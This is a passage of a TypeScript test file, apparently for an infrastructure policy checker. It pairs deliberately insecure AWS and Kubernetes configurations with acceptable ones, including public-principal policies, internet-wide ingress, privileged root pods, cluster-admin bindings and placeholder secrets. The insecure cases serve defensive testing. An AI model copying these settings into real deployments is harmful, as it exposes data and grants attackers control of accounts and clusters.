    Condition: { StringNotEquals: { "aws:PrincipalType": "Anonymous" } },
  }),
});
addBad(F, "sns/topicPolicy:TopicPolicy", "a topic to which anyone publishes and subscribes", {
  arn: `arn:aws:sns:${REGION}:${ME}:alarms`,
  policy: doc({
    Effect: "Allow",
    Principal: { AWS: "*" },
    Action: ["sns:Publish", "sns:Subscribe"],
    Resource: `arn:aws:sns:${REGION}:${ME}:alarms`,
  }),
});
addBad(F, "lambda/permission:Permission", "buckets of every account invoke a function", {
  action: "lambda:InvokeFunction",
  function: "validate-data",
  principal: "s3.amazonaws.com",
});
addBad(F, "cloudwatch/logResourcePolicy:LogResourcePolicy", "anyone writes logs", {
  policyName: "delivery",
  policyDocument: doc({
    Effect: "Allow",
    Principal: { AWS: "*" },
    Action: ["logs:CreateLogStream", "logs:PutLogEvents"],
    Resource: "*",
  }),
});
addBad(F, "backup/vaultPolicy:VaultPolicy", "anyone copies out of the vault", {
  backupVaultName: "millrace-prod",
  policy: doc({
    Effect: "Allow",
    Principal: "*",
    Action: ["backup:CopyFromBackupVault", "backup:StartRestoreJob"],
    Resource: "*",
  }),
});
addBad(F, "kms/grant:Grant", "a grant of the data key to a foreign account", {
  keyId: DATA_KEY,
  granteePrincipal: "arn:aws:iam::777777777777:role/vendor",
  operations: ["Decrypt", "GenerateDataKey"],
});
addBad(F, "cloudwatch/eventBusPolicy:EventBusPolicy", "anyone puts events", {
  eventBusName: "default",
  policy: doc({
    Sid: "Put",
    Effect: "Allow",
    Principal: "*",
    Action: "events:PutEvents",
    Resource: `arn:aws:events:${REGION}:${ME}:event-bus/default`,
  }),
});
addBad(F, "iam/rolePolicyAttachment:RolePolicyAttachment", "the runner is a power user", {
  role: "millrace-prod-runner-f2c896c",
  policyArn: "arn:aws:iam::aws:policy/PowerUserAccess",
});
addBad(W, "iam/rolePolicyAttachment:RolePolicyAttachment", "jobs of the team have all of S3", {
  role: "millrace-prod-risk-identity-role-28e3620",
  policyArn: "arn:aws:iam::aws:policy/AmazonS3FullAccess",
});
addBad(F, "iam/role:Role", "a vendor's account without an external id", {
  namePrefix: "millrace-prod-vendor-",
  permissionsBoundary: BOUNDARY,
  assumeRolePolicy: doc({ Effect: "Allow", Principal: { AWS: "arn:aws:iam::555555555555:root" }, Action: "sts:AssumeRole" }),
});
addBad(F, "iam/accessKey:AccessKey", "a long-lived key of a user", { user: "ci" });
addBad(F, "ram/resourceShare:ResourceShare", "shares with accounts outside", { name: "subnets", allowExternalPrincipals: true });
addBad(F, "s3/accessPoint:AccessPoint", "an access point without its block of public access", {
  bucket: MODELS,
  name: "models-open",
  publicAccessBlockConfiguration: {
    blockPublicAcls: false,
    blockPublicPolicy: false,
    ignorePublicAcls: false,
    restrictPublicBuckets: false,
  },
});
addBad(F, "iam/groupPolicy:GroupPolicy", "a group that may do everything in IAM", {
  group: "analysts",
  policy: doc({ Effect: "Allow", Action: ["iam:*"], Resource: "*" }),
});

bucketPolicy("data").ok(
  "one role of our account reads snapshots",
  allowed({
    Sid: "Audit",
    Principal: { AWS: `arn:aws:iam::${ME}:role/platform-engineers` },
    Action: ["s3:GetObject"],
    Resource: [`arn:aws:s3:::${DATA}/snapshots/*`],
  }),
);
bucketPolicy("models").ok(
  "one more denial: nobody from outside of the account",
  allowed({
    Sid: "OursOnly",
    Effect: "Deny",
    Principal: "*",
    Action: "s3:*",
    Resource: [`arn:aws:s3:::${MODELS}`, `arn:aws:s3:::${MODELS}/*`],
    Condition: { StringNotEquals: { "aws:PrincipalAccount": ME }, Bool: { "aws:PrincipalIsAWSService": "false" } },
  }),
);
bucketPolicy("artifacts").ok(
  "TLS 1.3 at least",
  statement("ModernTlsOnly", (s) => (s.Condition.NumericLessThan["s3:TlsVersion"] = "1.3")),
);
bucketPolicy("predictions").ok(
  "principal spelt as AWS star in a denial",
  statement("TlsOnly", (s) => (s.Principal = { AWS: "*" })),
);
bucketPolicy("data").ok(
  "a denial spelt as text instead of list",
  statement("TlsOnly", (s) => (s.Action = "s3:*")),
);
kms("data").ok(
  "EventBridge's denial of foreign accounts",
  allowed({
    Sid: "OursOnly",
    Effect: "Deny",
    Principal: "*",
    Action: "kms:Decrypt",
    Resource: "*",
    Condition: { StringNotEquals: { "kms:CallerAccount": ME } },
  }),
);
kms("logs").ok(
  "SNS of our account uses the key",
  allowed({
    Sid: "Alarms",
    Principal: { Service: "cloudwatch.amazonaws.com" },
    Action: ["kms:Decrypt", "kms:GenerateDataKey*"],
    Resource: "*",
    Condition: { StringEquals: { "aws:SourceAccount": ME } },
  }),
);
kms("data").ok("turned every half year", (i) => (i.rotationPeriodInDays = 180));
role(F, "ci-plan").ok(
  "one more environment of the same repository plans",
  statement(
    "GitHubActions",
    (s) =>
      s.Condition.StringEquals["token.actions.githubusercontent.com:sub"].push("repo:example/millrace:environment:prod-drift"),
    T,
  ),
);
role(F, "ci-deploy").ok(
  "subject as text instead of a list",
  statement(
    "GitHubActions",
    (s) => (s.Condition.StringEquals["token.actions.githubusercontent.com:sub"] = "repo:example/millrace:environment:prod"),
    T,
  ),
);
role(W, "fraud-reader").ok(
  "only pods of our cluster",
  statement("PodsAssume", (s) => (s.Condition = { StringEquals: { "aws:SourceAccount": ME } }), T),
);
role(F, "ci-deploy").ok("a shorter session", (i) => (i.maxSessionDuration = 3600));
inline(W, "risk-identity-role-permissions").ok(
  "reads one more prefix of its own",
  statement("ReadData", (s) => s.Resource.push(`arn:aws:s3:::${DATA}/features/risk/*`)),
);
inline(W, "fraud-reader-permissions").ok(
  "an older version with its tags",
  statement("ReadVersions", (s) => s.Action.push("s3:GetObjectVersion", "s3:GetObjectTagging")),
);
inline(P, "tracking-role-permissions").ok(
  "a denial of deletion of versions",
  allowed({ Sid: "KeepVersions", Effect: "Deny", Action: ["s3:DeleteObjectVersion"], Resource: ["*"] }),
);
inline(P, "cluster-role-secrets").ok(
  "action as text, single statement",
  statement("EncryptSecrets", (s) => (s.Resource = CLUSTER_KEY)),
);
addOk(W, "iam/role:Role", "a role of one more model", {
  namePrefix: "millrace-prod-churn-reader-",
  permissionsBoundary: BOUNDARY,
  assumeRolePolicy: POD_TRUST,
});
addOk(F, "iam/role:Role", "a vendor's role with an external id and a named role", {
  namePrefix: "millrace-prod-backup-",
  permissionsBoundary: BOUNDARY,
  assumeRolePolicy: doc({
    Effect: "Allow",
    Principal: { Service: "backup.amazonaws.com" },
    Action: "sts:AssumeRole",
    Condition: { StringEquals: { "aws:SourceAccount": ME } },
  }),
});
addOk(F, "ecr/repositoryPolicy:RepositoryPolicy", "one role of our account pulls", {
  repository: "millrace-prod/model-server",
  policy: doc({
    Sid: "Pull",
    Effect: "Allow",
    Principal: { AWS: `arn:aws:iam::${ME}:role/platform-engineers` },
    Action: ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
  }),
});
addOk(F, "sns/topicPolicy:TopicPolicy", "alarms of our account publish", {
  arn: `arn:aws:sns:${REGION}:${ME}:alarms`,
  policy: doc({
    Effect: "Allow",
    Principal: { Service: "cloudwatch.amazonaws.com" },
    Action: "sns:Publish",
    Resource: `arn:aws:sns:${REGION}:${ME}:alarms`,
    Condition: { StringEquals: { "aws:SourceAccount": ME } },
  }),
});
addOk(F, "lambda/permission:Permission", "one bucket of ours invokes", {
  action: "lambda:InvokeFunction",
  function: "validate-data",
  principal: "s3.amazonaws.com",
  sourceArn: `arn:aws:s3:::${DATA}`,
  sourceAccount: ME,
});

// ---------------------------------------------------------------- text
kind = "text";
const db = A(F, "rds/instance:Instance", "tracking-database");
const deployment = K(P, "apps/v1:Deployment", "tracking-server");
const cron = K(P, "batch/v1:CronJob", "tracking-collection");
const eks = A(P, "eks/cluster:Cluster", "cluster");
const pod = (i: any) => i.spec.template.spec;
eks.bad("public endpoint, as text", (i) => (i.vpcConfig.endpointPublicAccess = "true"));
db.bad("publicly accessible, as text", (i) => (i.publiclyAccessible = "true"));
db.bad("not encrypted, as text", (i) => (i.storageEncrypted = "false"));
db.bad("keeps no backups, as text", (i) => (i.backupRetentionPeriod = "0"));
A(F, "s3/bucketPublicAccessBlock:BucketPublicAccessBlock", "predictions-private").bad(
  "does not block public policies, as text",
  (i) => (i.blockPublicPolicy = "false"),
);
A(F, "s3/bucket:Bucket", "models").bad("forced destruction, as text", (i) => (i.forceDestroy = "true"));
kms("database").bad("no rotation, as text", (i) => (i.enableKeyRotation = "false"));
A(P, "lb/loadBalancer:LoadBalancer", "ingress").bad(
  "no protection against deletion, as text",
  (i) => (i.enableDeletionProtection = "false"),
);
A(P, "ec2/launchTemplate:LaunchTemplate", "system-nodes-template").bad(
  "a hop limit of 5, as text",
  (i) => (i.metadataOptions.httpPutResponseHopLimit = "5"),
);
deployment.bad("root by its number, as text", (i) => {
  pod(i).securityContext.runAsUser = "0";
  pod(i).securityContext.runAsNonRoot = "false";
});
deployment.bad("host network, as text", (i) => (pod(i).hostNetwork = "true"));
deployment.bad("token mounted, as text", (i) => (pod(i).automountServiceAccountToken = "true"));
A(F, "vpc/securityGroupIngressRule:SecurityGroupIngressRule", "network-endpoints-https").bad(
  "all ports as text, from everywhere",
  (i) => Object.assign(i, { cidrIpv4: "0.0.0.0/0", fromPort: "0", toPort: "65535" }),
);
A(F, "ec2/subnet:Subnet", "network-private-a").bad(
  "public addresses at launch, as text",
  (i) => (i.mapPublicIpOnLaunch = "true"),
);
A(F, "cloudtrail/trail:Trail", "audit-trail").bad(
  "does not validate its files, as text",
  (i) => (i.enableLogFileValidation = "false"),
);
A(F, "cloudtrail/trail:Trail", "audit-trail").bad("does not log, as text", (i) => (i.enableLogging = "false"));
A(F, "ecr/repository:Repository", "model-server-images").bad(
  "not scanned, as text",
  (i) => (i.imageScanningConfiguration.scanOnPush = "false"),
);
A(F, "ecr/repository:Repository", "mlflow-images").bad("deleted with its images, as text", (i) => (i.forceDelete = "true"));
db.ok("flags and numbers of the same meaning as text", (i) =>
  Object.assign(i, {
    multiAz: "true",
    storageEncrypted: "true",
    backupRetentionPeriod: "35",
    publiclyAccessible: "false",
    deletionProtection: "true",
  }),
);
A(F, "s3/bucketPublicAccessBlock:BucketPublicAccessBlock", "data-private").ok("the same flags as text", (i) =>
  Object.assign(i, {
    blockPublicAcls: "true",
    blockPublicPolicy: "true",
    ignorePublicAcls: "true",
    restrictPublicBuckets: "true",
  }),
);
kms("cluster").ok("the same as text", (i) =>
  Object.assign(i, { enableKeyRotation: "true", rotationPeriodInDays: "365", deletionWindowInDays: "30" }),
);
A(F, "cloudwatch/logGroup:LogGroup", "ci-runner-log").ok("retention as text", (i) => (i.retentionInDays = "365"));
A(P, "vpc/securityGroupIngressRule:SecurityGroupIngressRule", "database-from-cluster").ok("ports as text", (i) =>
  Object.assign(i, { fromPort: "5432", toPort: "5432" }),
);
A(P, "ec2/launchTemplate:LaunchTemplate", "system-nodes-template").ok(
  "hop limit as text",
  (i) => (i.metadataOptions.httpPutResponseHopLimit = "1"),
);

// ---------------------------------------------------------------- ranges
kind = "ranges";
const ingressRule = (more: any) => ({ ipProtocol: "tcp", fromPort: 443, toPort: 443, description: "HTTPS", ...more });
addBad(
  P,
  "vpc/securityGroupIngressRule:SecurityGroupIngressRule",
  "half of the internet reaches the balancer",
  ingressRule({ securityGroupId: BALANCER_SG, cidrIpv4: "128.0.0.0/1" }),
);
addBad(
  P,
  "vpc/securityGroupIngressRule:SecurityGroupIngressRule",
  "a quarter of the internet reaches the database",
  ingressRule({ securityGroupId: DB_SG, cidrIpv4: "64.0.0.0/2", fromPort: 5432, toPort: 5432 }),
);
addBad(
  P,
  "vpc/securityGroupIngressRule:SecurityGroupIngressRule",
  "all of IPv6 that is in use reaches the cluster",
  ingressRule({ securityGroupId: CLUSTER_SG, cidrIpv6: "2000::/3" }),
);
addBad(F, "ec2/securityGroup:SecurityGroup", "a group with both halves inline", {
  vpcId: VPC,
  description: "Notebooks",
  ingress: [{ protocol: "tcp", fromPort: 22, toPort: 22, cidrBlocks: ["0.0.0.0/1", "128.0.0.0/1"] }],
});
addBad(F, "ec2/securityGroupRule:SecurityGroupRule", "the older type of rule, SSH from everywhere", {
  type: "ingress",
  securityGroupId: "sg-87273c82a953aef0c",
  protocol: "6",
  fromPort: 22,
  toPort: 22,
  cidrBlocks: ["0.0.0.0/0"],
});
addBad(F, "vpc/securityGroupEgressRule:SecurityGroupEgressRule", "the access host goes everywhere on every port", {
  securityGroupId: "sg-87273c82a953aef0c",
  ipProtocol: "-1",
  cidrIpv4: "0.0.0.0/0",
  description: "Out",
});
addBad(F, "ec2/networkAclRule:NetworkAclRule", "an ACL lets all come in", {
  networkAclId: "acl-1",
  ruleNumber: 10,
  protocol: "-1",
  ruleAction: "allow",
  egress: false,
  cidrBlock: "0.0.0.0/0",
});
addBad(F, "ec2/managedPrefixList:ManagedPrefixList", "a list of the offices holds half of the internet", {
  name: "offices",
  addressFamily: "IPv4",
  maxEntries: 5,
  entries: [{ cidr: "203.0.113.0/24" }, { cidr: "0.0.0.0/1" }, { cidr: "128.0.0.0/1" }],
});
K(W, "networking.k8s.io/v1:NetworkPolicy", "risk-jobs-reach").bad("all ports to both halves", (i) =>
  i.spec.egress.push({ to: [{ ipBlock: { cidr: "0.0.0.0/1" } }, { ipBlock: { cidr: "128.0.0.0/1" } }] }),
);
K(W, "networking.k8s.io/v1:NetworkPolicy", "fraud-reach").bad("ingress from half of the internet", (i) =>
  i.spec.ingress.push({ from: [{ ipBlock: { cidr: "0.0.0.0/1" } }], ports: [{ port: 8080 }] }),
);
K(W, "networking.k8s.io/v1:NetworkPolicy", "risk-jobs-reach").bad("a range of ports from 1 to the end", (i) =>
  i.spec.egress.push({ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }], ports: [{ port: 1, endPort: 65535, protocol: "TCP" }] }),
);
eks.bad("public endpoint for both halves", (i) =>
  Object.assign(i.vpcConfig, { endpointPublicAccess: true, publicAccessCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }),
);
A(P, "vpc/securityGroupIngressRule:SecurityGroupIngressRule", "database-from-cluster").bad(
  "the whole VPC and all ports around",
  (i) => {
    delete i.referencedSecurityGroupId;
    Object.assign(i, { cidrIpv4: "10.0.0.0/8", fromPort: 1024, toPort: 65535 });
  },
);
addOk(
  P,
  "vpc/securityGroupIngressRule:SecurityGroupIngressRule",
  "the VPN's range reaches the balancer",
  ingressRule({ securityGroupId: BALANCER_SG, cidrIpv4: "10.200.0.0/16", description: "HTTPS from the VPN" }),
);
addOk(
  F,
  "vpc/securityGroupIngressRule:SecurityGroupIngressRule",
  "a second private range reaches endpoints",
  ingressRule({ securityGroupId: ENDPOINTS_SG, cidrIpv4: "100.64.0.0/16", description: "HTTPS from pods" }),
);
addOk(F, "vpc/securityGroupEgressRule:SecurityGroupEgressRule", "the access host asks DNS of the VPC", {
  securityGroupId: "sg-87273c82a953aef0c",
  ipProtocol: "udp",
  fromPort: 53,
  toPort: 53,
  cidrIpv4: "10.30.0.2/32",
  description: "DNS",
});
A(P, "vpc/securityGroupIngressRule:SecurityGroupIngressRule", "ingress-from-10-30-0-0-16").ok(
  "in a clearer description",
  (i) => (i.description = "HTTPS from the network of the platform"),
);
K(W, "networking.k8s.io/v1:NetworkPolicy", "risk-jobs-reach").ok(
  "HTTPS without the metadata addresses",
  (i) => (i.spec.egress[3].to[0].ipBlock.except = ["169.254.0.0/16", "10.30.0.0/16"]),
);
K(W, "networking.k8s.io/v1:NetworkPolicy", "fraud-reach").ok(
  "the port as a range of one",
  (i) => (i.spec.ingress[0].ports[0].endPort = 8080),
);
objOk(W, "networking.k8s.io/v1", "NetworkPolicy", "one more policy for a feature store", {
  metadata: { name: "features", namespace: "models-risk" },
  spec: {
    podSelector: { matchLabels: { app: "fraud" } },
    policyTypes: ["Egress"],
    egress: [{ to: [{ ipBlock: { cidr: "10.30.64.0/21" } }], ports: [{ port: 6379, protocol: "TCP" }] }],
  },
});

// ---------------------------------------------------------------- pods
kind = "pods";
deployment.bad(
  "a second container may gain privileges",
  (i) => (pod(i).containers[1].securityContext.allowPrivilegeEscalation = true),
);
deployment.bad(
  "adds back SYS_ADMIN after dropping all",
  (i) => (pod(i).containers[0].securityContext.capabilities.add = ["SYS_ADMIN"]),
);
deployment.bad("root group and root user in one container", (i) =>
  Object.assign(pod(i).containers[0].securityContext, { runAsUser: 0, runAsNonRoot: false }),
);
deployment.bad(
  "seccomp is off in one container",
  (i) => (pod(i).containers[1].securityContext.seccompProfile = { type: "Unconfined" }),
);
deployment.bad("procMount unmasked", (i) => (pod(i).containers[0].securityContext.procMount = "Unmasked"));
deployment.bad("a projected token of the API", (i) =>
  pod(i).volumes.push({
    name: "token",
    projected: { sources: [{ serviceAccountToken: { path: "token", expirationSeconds: 3600 } }] },
  }),
);
deployment.bad("a volume of the node by the containerd socket", (i) =>
  pod(i).volumes.push({ name: "sock", hostPath: { path: "/run/containerd/containerd.sock", type: "Socket" } }),
);
deployment.bad("the password in the arguments", (i) => pod(i).containers[0].args.push("--admin-password=Tr0ub4dor-and-3"));
deployment.bad("a connection string with its password", (i) =>
  pod(i).containers[0].env.push({ name: "DATABASE_URL", value: "postgresql://mlflow:hunter2Secret@db.internal:5432/mlflow" }),
);
deployment.bad(
  "a token of Hugging Face in the environment",
  (i) => (pod(i).containers[1].env = [{ name: "HF_HUB", value: "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789" }]),
);
deployment.bad(
  "the readiness probe always succeeds",
  (i) => (pod(i).containers[0].readinessProbe = { exec: { command: ["true"] }, periodSeconds: 10 }),
);
deployment.bad("no readiness probe", (i) => delete pod(i).containers[0].readinessProbe);
deployment.bad("one replica at least becomes none while it is replaced", (i) => (i.spec.strategy = { type: "Recreate" }));
deployment.bad("shares processes with its node", (i) => (pod(i).hostPID = true));
deployment.bad("an image of Docker Hub by its tag", (i) => (pod(i).containers[1].image = "docker.io/bitnami/python:3.13"));
deployment.bad(
  "accepts any host and any origin",
  (i) =>
    (pod(i).containers[0].args = pod(i).containers[0].args.map((a: string) =>
      a.startsWith("--allowed-hosts=")
        ? "--allowed-hosts=*"
        : a.startsWith("--cors-allowed-origins=")
          ? "--cors-allowed-origins=*"
          : a,
    )),
);
deployment.bad(
  "no accounts: the app without authentication",
  (i) => (pod(i).containers[0].args = pod(i).containers[0].args.filter((a: string) => !a.startsWith("--app-name="))),
);
deployment.bad("does not verify the database", (i) => {
  const e = pod(i).containers[0].env.find((v: any) => v.name === "MLFLOW_BACKEND_STORE_URI");
  e.value = swap(e.value, "sslmode=verify-full", "sslmode=prefer");
});
rollout.bad(
  "the fetching container may write its root",
  (i) => (i.spec.template.spec.initContainers[0].securityContext.readOnlyRootFilesystem = false),
);
rollout.bad("the model is not checked against its hash", (i) => {
  const c = i.spec.template.spec.initContainers[0];
  c.env = c.env.filter((e: any) => e.name !== "MODEL_SHA256");
});
rollout.bad("the model comes from the artifacts, not from the store of models", (i) => {
  for (const c of [...i.spec.template.spec.initContainers, ...i.spec.template.spec.containers])
    c.env.find((e: any) => e.name === "MODEL_URI").value = `s3://${ARTIFACTS}/teams/risk/fraud/3`;
});
rollout.bad("no liveness and readiness after all", (i) => {
  const c = i.spec.template.spec.containers[0];
  delete c.readinessProbe;
});
rollout.bad("a sidecar by its tag only", (i) =>
  i.spec.template.spec.containers.push(
    container({ name: "agent", image: `${ME}.dkr.ecr.${REGION}.amazonaws.com/millrace-prod/model-server:v3` }),
  ),
);
rollout.bad("tolerates everything", (i) => (i.spec.template.spec.tolerations = [{ operator: "Exists" }]));
rollout.bad("runs with system-node-critical priority", (i) => (i.spec.template.spec.priorityClassName = "system-node-critical"));
cron.bad(
  "root by an init container",
  (i) =>
    (i.spec.jobTemplate.spec.template.spec.initContainers = [
      container({
        name: "fix",
        securityContext: { runAsUser: 0, runAsNonRoot: false, allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
      }),
    ]),
);
cron.bad("keeps its token", (i) => delete i.spec.jobTemplate.spec.template.spec.automountServiceAccountToken);
K(W, "core/v1:ServiceAccount", "fraud-account").bad(
  "the account mounts its token",
  (i) => (i.automountServiceAccountToken = true),
);
objBad(P, "apps/v1", "DaemonSet", "a privileged agent on each node", {
  metadata: { name: "agent", namespace: "mlflow" },
  spec: {
    selector: { matchLabels: { app: "agent" } },
    template: { metadata: { labels: { app: "agent" } }, spec: podSpec({}, { securityContext: { privileged: true } }) },
  },
});
objBad(P, "v1", "Pod", "a bare pod without requests", {
  metadata: { name: "shell", namespace: "mlflow" },
  spec: podSpec({}, { resources: {} }),
});
objBad(P, "batch/v1", "Job", "a job with a private key in its environment", {
  metadata: { name: "import", namespace: "mlflow" },
  spec: {
    template: {
      spec: podSpec({ restartPolicy: "Never" }, { env: [{ name: "KEY", value: "-----BEGIN RSA PRIVATE KEY-----\nMIIEow" }] }),
    },
  },
});
K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").bad("down to one replica", (i) => (i.spec.minReplicas = 1));
K(W, "policy/v1:PodDisruptionBudget", "fraud-budget").bad("all may be evicted at once", (i) => (i.spec.maxUnavailable = "100%"));
deployment.ok("a more patient liveness probe", (i) => (pod(i).containers[0].livenessProbe.failureThreshold = 8));
deployment.ok(
  "a readiness probe over TCP",
  (i) => (pod(i).containers[0].readinessProbe = { tcpSocket: { port: "http" }, periodSeconds: 5, timeoutSeconds: 2 }),
);
deployment.ok("seccomp and user repeated in a container", (i) =>
  Object.assign(pod(i).containers[0].securityContext, {
    runAsNonRoot: true,
    runAsUser: 1000,
    seccompProfile: { type: "RuntimeDefault" },
    privileged: false,
  }),
);
deployment.ok("another user without rights", (i) =>
  Object.assign(pod(i).securityContext, { runAsUser: 20001, runAsGroup: 20001, fsGroup: 20001 }),
);
deployment.ok("no host network, said aloud", (i) =>
  Object.assign(pod(i), { hostNetwork: false, hostPID: false, hostIPC: false }),
);
deployment.ok("a token for another audience", (i) =>
  pod(i).volumes.push({
    name: "vault",
    projected: { sources: [{ serviceAccountToken: { audience: "vault.example.com", path: "token", expirationSeconds: 600 } }] },
  }),
);
deployment.ok("variables whose names sound secret and are not", (i) =>
  pod(i).containers[0].env.push(
    { name: "PASSWORD_MIN_LENGTH", value: "12" },
    { name: "TOKEN_ENDPOINT", value: "https://login.example.com/token" },
    { name: "SECRET_NAME", value: "mlflow-keys" },
  ),
);
deployment.ok("more memory and a limit of cpu", (i) =>
  Object.assign(pod(i).containers[0].resources, {
    requests: { cpu: "1", memory: "2Gi", "ephemeral-storage": "2Gi" },
    limits: { cpu: "2", memory: "4Gi", "ephemeral-storage": "12Gi" },
  }),
);
deployment.ok("shut out of the node's port: hostPort 0", (i) => (pod(i).containers[0].ports[0].protocol = "TCP"));
deployment.ok(
  "four workers",
  (i) => (pod(i).containers[0].args = pod(i).containers[0].args.map((a: string) => (a === "--workers=2" ? "--workers=4" : a))),
);
rollout.ok("spread over hosts as well", (i) =>
  i.spec.template.spec.topologySpreadConstraints.push({
    labelSelector: { matchLabels: { app: "fraud" } },
    maxSkew: 1,
    topologyKey: "kubernetes.io/hostname",
    whenUnsatisfiable: "ScheduleAnyway",
  }),
);
rollout.ok("limits of the scratch volumes", (i) => {
  for (const v of i.spec.template.spec.volumes) v.emptyDir = { sizeLimit: "2Gi" };
});
rollout.ok("longer to shut down", (i) => (i.spec.template.spec.terminationGracePeriodSeconds = 60));
rollout.ok("pulls always", (i) => (i.spec.template.spec.containers[0].imagePullPolicy = "Always"));
cron.ok("on Saturdays, and tidied after a day", (i) => {
  i.spec.schedule = "30 4 * * 6";
  i.spec.jobTemplate.spec.ttlSecondsAfterFinished = 86400;
});
K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").ok("between four and sixteen", (i) => {
  i.spec.minReplicas = 4;
  i.spec.maxReplicas = 16;
});
K(P, "policy/v1:PodDisruptionBudget", "tracking-budget").ok("by the least number", (i) => {
  delete i.spec.maxUnavailable;
  i.spec.minAvailable = 2;
});
objOk(P, "batch/v1", "CronJob", "a well-made weekly report", {
  metadata: { name: "report", namespace: "mlflow" },
  spec: {
    schedule: "0 5 * * 1",
    concurrencyPolicy: "Forbid",
    jobTemplate: {
      spec: { backoffLimit: 1, activeDeadlineSeconds: 3600, template: { spec: podSpec({ restartPolicy: "Never" }) } },
    },
  },
});
objOk(W, "v1", "ConfigMap", "settings of the model", {
  metadata: { name: "fraud-settings", namespace: "models-risk" },
  data: { "settings.yaml": "threshold: 0.8\npassword_policy: strict\ntoken_bucket: 100\n" },
});

// ---------------------------------------------------------------- role bindings
kind = "role-bindings";
const rb = (layer: Layer, what: string, roleRef: any, subjects: any, ns?: string) =>
  objBad(layer, "rbac.authorization.k8s.io/v1", ns ? "RoleBinding" : "ClusterRoleBinding", what, {
    metadata: { name: "added", ...(ns && { namespace: ns }) },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", ...roleRef },
    subjects,
  });
const group = (name: string) => ({ kind: "Group", name, apiGroup: "rbac.authorization.k8s.io" });
rb(P, "whoever has a service account reads the cluster", { kind: "ClusterRole", name: "view" }, [
  group("system:serviceaccounts"),
]);
rb(P, "anonymous requests read the plan's objects", { kind: "ClusterRole", name: "millrace-plan" }, [
  group("system:unauthenticated"),
]);
rb(
  W,
  "a team edits its models' namespace by the built-in role",
  { kind: "ClusterRole", name: "edit" },
  [group("risk-ml-engineers")],
  "models-risk",
);
rb(
  W,
  "the jobs' account is admin of its namespace",
  { kind: "ClusterRole", name: "admin" },
  [{ kind: "ServiceAccount", name: "jobs", namespace: "team-risk" }],
  "team-risk",
);
rb(P, "a default account is cluster admin", { kind: "ClusterRole", name: "cluster-admin" }, [
  { kind: "ServiceAccount", name: "default", namespace: "kube-system" },
]);
K(W, "rbac.authorization.k8s.io/v1:RoleBinding", "risk-train-binding").bad("all who are signed in train", (i) =>
  i.subjects.push(group("system:authenticated")),
);
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-train").bad("jobs may be changed by a wildcard of verbs and subresources", (i) =>
  i.rules.push({ apiGroups: ["batch"], resources: ["*"], verbs: ["*"] }),
);
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-train").bad("executes in pods", (i) =>
  i.rules.push({ apiGroups: [""], resources: ["pods/exec", "pods/attach"], verbs: ["create", "get"] }),
);
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-observe").bad("reads secrets", (i) => i.rules[0].resources.push("secrets"));
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-operate").bad("edits routes beside the rollout", (i) =>
  i.rules.push({ apiGroups: ["networking.istio.io"], resources: ["virtualservices"], verbs: ["patch", "update"] }),
);
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-operate").bad("makes tokens of accounts", (i) =>
  i.rules.push({ apiGroups: [""], resources: ["serviceaccounts/token"], verbs: ["create"] }),
);
K(P, "rbac.authorization.k8s.io/v1:ClusterRole", "plan-reader").bad("the plan role impersonates", (i) =>
  i.rules.push({ apiGroups: [""], resources: ["users", "groups"], verbs: ["impersonate"] }),
);
K(P, "rbac.authorization.k8s.io/v1:ClusterRole", "plan-reader").bad("the plan role reads through the nodes", (i) =>
  i.rules.push({ apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] }),
);
objBad(P, "rbac.authorization.k8s.io/v1", "ClusterRole", "a role that is added to the built-in view and reads secrets", {
  metadata: { name: "more-view", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
  rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }],
});
objBad(P, "rbac.authorization.k8s.io/v1", "ClusterRole", "a role that may escalate and bind", {
  metadata: { name: "onboarding" },
  rules: [
    {
      apiGroups: ["rbac.authorization.k8s.io"],
      resources: ["clusterroles", "clusterrolebindings"],
      verbs: ["create", "bind", "escalate"],
    },
  ],
});
A(P, "eks/accessEntry:AccessEntry", "access-member-risk-data-scientists").bad("a member is put into system:masters", (i) =>
  i.kubernetesGroups.push("system:masters"),
);
addBad(P, "eks/accessPolicyAssociation:AccessPolicyAssociation", "data scientists administer the namespaces of the platform", {
  clusterName: "millrace-prod",
  principalArn: `arn:aws:iam::${ME}:role/risk-data-scientists`,
  policyArn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSAdminPolicy",
  accessScope: { type: "namespace", namespaces: ["kube-system", "monitoring"] },
});
addBad(P, "eks/podIdentityAssociation:PodIdentityAssociation", "the default account of a team gets Karpenter's role", {
  clusterName: "millrace-prod",
  namespace: "team-risk",
  serviceAccount: "default",
  roleArn: `arn:aws:iam::${ME}:role/millrace-prod-karpenter-controller-55a14ca`,
});
K(W, "rbac.authorization.k8s.io/v1:RoleBinding", "risk-observe-binding").ok("engineers observe as well", (i) =>
  i.subjects.push(group("risk-ml-engineers")),
);
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-train").ok("sees config of horizontal scaling", (i) =>
  i.rules.push({ apiGroups: ["autoscaling"], resources: ["horizontalpodautoscalers"], verbs: ["get", "list", "watch"] }),
);
K(W, "rbac.authorization.k8s.io/v1:Role", "risk-observe").ok("sees replica sets and end points", (i) =>
  i.rules.push(
    { apiGroups: ["apps"], resources: ["replicasets"], verbs: ["get", "list"] },
    { apiGroups: ["discovery.k8s.io"], resources: ["endpointslices"], verbs: ["get", "list", "watch"] },
  ),
);
objOk(W, "rbac.authorization.k8s.io/v1", "RoleBinding", "analysts observe the models", {
  metadata: { name: "observe-analysts", namespace: "models-risk" },
  roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "observe" },
  subjects: [group("risk-analysts")],
});
objOk(P, "rbac.authorization.k8s.io/v1", "ClusterRole", "a role that reads queues", {
  metadata: { name: "queues-reader" },
